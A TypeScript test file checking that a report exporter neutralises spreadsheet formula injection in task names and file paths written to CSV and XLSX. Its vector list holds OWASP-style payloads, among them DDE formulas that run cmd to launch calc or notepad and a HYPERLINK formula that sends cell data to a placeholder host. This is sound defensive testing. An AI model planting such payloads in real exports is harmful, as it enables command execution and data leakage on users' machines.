/**
 * Security: formula injection through task data (OWASP "CSV Injection"), and path safety of IDs.
 */
import { mkdtemp, readFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createFakeClock } from '../../src/client/clock.js';
import { createEmulator, type Emulator } from '../../src/emulator/index.js';
import { parseCsv } from '../../src/input/parse-csv.js';
import { REPORT_COLUMNS } from '../../src/core/row.js';
import { runInProcess } from '../support/in-process.js';

const ACCESS = 'AK-SEC';
const SECRET = 'sec-secret-0000';
const ENV = { NCLOUD_ACCESS_KEY: ACCESS, NCLOUD_SECRET_KEY: SECRET };

// OWASP CSV Injection vectors, plus the leading-space, LF, NUL and full-width forms.
const VECTORS = [
  '=1+2',
  '+1+2',
  '-1+2',
  "@SUM(1+9)*cmd|' /C calc'!A0",
  '=HYPERLINK("http://example.invalid?x="&A1,"click")',
  "=cmd|' /C notepad'!'A1'",
  '\t=1+2',
  '\r=1+2',
  '\n=1+2',
  '\u0000=1+2',
  '   =1+2',
  ' @SUM(A1)',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(A1)',
  '=DDE("cmd";"/C calc";"!A0")A0',
];
const SAFE = ['plain name', '한글 모델', '1+2', 'a=b', '0.5'];

function uuid(n: number): string {
  return `d0000000-0000-4000-8000-${String(n).padStart(12, '0')}`;
}

const NAMES = [...VECTORS, ...SAFE];
const TASKS = NAMES.map((name, n) => ({
  task_id: uuid(n),
  task_name: name,
  status: 'completed',
  train_file_path: name,
  fail_message: null,
}));

let emulator: Emulator;
const clock = createFakeClock(Date.UTC(2026, 10, 29));
let out: string;

beforeAll(async () => {
  emulator = await createEmulator({
    tasks: TASKS,
    credentials: { accessKey: ACCESS, secretKey: SECRET },
    now: () => clock.now(),
  });
  out = await mkdtemp(join(tmpdir(), 'nclue-sec-'));
  const ids = TASKS.map((t) => t.task_id);
  const a = await runInProcess(
    [...ids, '--endpoint', emulator.url, '--out', out, '--name', 'esc', '--rps', '1000'],
    { env: ENV, clock },
  );
  const b = await runInProcess(
    [
      ...ids,
      '--endpoint',
      emulator.url,
      '--out',
      out,
      '--name',
      'raw',
      '--format',
      'csv',
      '--no-escape-formulas',
      '--rps',
      '1000',
    ],
    { env: ENV, clock },
  );
  expect([a.code, b.code]).toEqual([0, 0]);
});
afterAll(async () => {
  await emulator.close();
});

async function csvColumn(name: string, column: (typeof REPORT_COLUMNS)[number]): Promise<string[]> {
  const rows = parseCsv((await readFile(join(out, name), 'utf8')).replace(/^\uFEFF/, '')).map(
    (r) => r.fields,
  );
  const col = REPORT_COLUMNS.indexOf(column);
  return rows.slice(1).map((r) => r[col] ?? '');
}

describe('formula injection', () => {
  it.each(VECTORS.map((v, i) => [JSON.stringify(v), i] as const))(
    'CSV defuses %s with a leading quote',
    async (_label, i) => {
      const names = await csvColumn('esc.csv', 'task_name');
      const paths = await csvColumn('esc.csv', 'train_file_path');
      // Control characters (the NUL) are dropped as in the workbook; what follows is still defused.
      const text = (VECTORS[i] ?? '').split('\u0000').join('');
      expect(names[i]).toBe(`'${text}`);
      expect(paths[i]).toBe(`'${text}`);
    },
  );

  it('leaves harmless text alone', async () => {
    const names = await csvColumn('esc.csv', 'task_name');
    expect(names.slice(VECTORS.length)).toEqual(SAFE);
  });

  it('--no-escape-formulas writes the text as it is', async () => {
    expect(await csvColumn('raw.csv', 'task_name')).toEqual(
      NAMES.map((name) => name.split('\u0000').join('')),
    );
  });

  it('xlsx writes every vector as a plain text cell, never a formula', async () => {
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.readFile(join(out, 'esc.xlsx'));
    const sheet = workbook.getWorksheet('Tasks')!;
    const col = REPORT_COLUMNS.indexOf('task_name') + 1;
    VECTORS.forEach((vector, i) => {
      const cell = sheet.getRow(i + 2).getCell(col);
      expect(cell.type, JSON.stringify(vector)).toBe(ExcelJS.ValueType.String);
      expect(cell.formula).toBeUndefined();
      expect(String(cell.value).replace(/\r\n/g, '\n')).toContain(
        vector.split('\u0000').join('').trim().slice(0, 3),
      );
    });
  });
});
